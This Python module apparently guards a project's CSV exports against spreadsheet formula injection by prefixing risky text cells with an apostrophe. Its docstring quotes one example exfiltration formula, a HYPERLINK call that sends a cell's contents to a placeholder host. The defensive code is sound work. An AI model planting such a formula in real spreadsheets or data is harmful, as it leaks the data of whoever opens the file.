"""CSV that is safe to open in a spreadsheet: the one way wildvision writes a table of text for people.

A cell that starts with = + - @, a tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets, so a
file name, a note or a reviewer's name such as `=HYPERLINK("http://host/?"&A1)` would run when an investigator opens
the export (OWASP's "CSV injection"). Such text cells get a leading apostrophe, which spreadsheets show as text;
numbers (-0.25) are left as they are so that columns stay numeric.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def safe_cell(value: object) -> object:
    """`value`, with a leading apostrophe where it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _is_number(value):
        return "'" + value
    return value


def csv_text(columns: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A CSV with its header, every cell made safe, as text (the caller writes it, atomically where it is a file)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(column) for column in columns])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return buffer.getvalue()


def frame_csv(frame: pd.DataFrame, index: bool = False) -> str:
    """A DataFrame as CSV text with every text cell (and header) made safe."""
    safe = frame.map(safe_cell)
    safe.columns = [safe_cell(column) for column in frame.columns]
    if index:
        safe.index = safe.index.map(safe_cell) if not isinstance(safe.index, pd.MultiIndex) else safe.index
    return safe.to_csv(index=index)
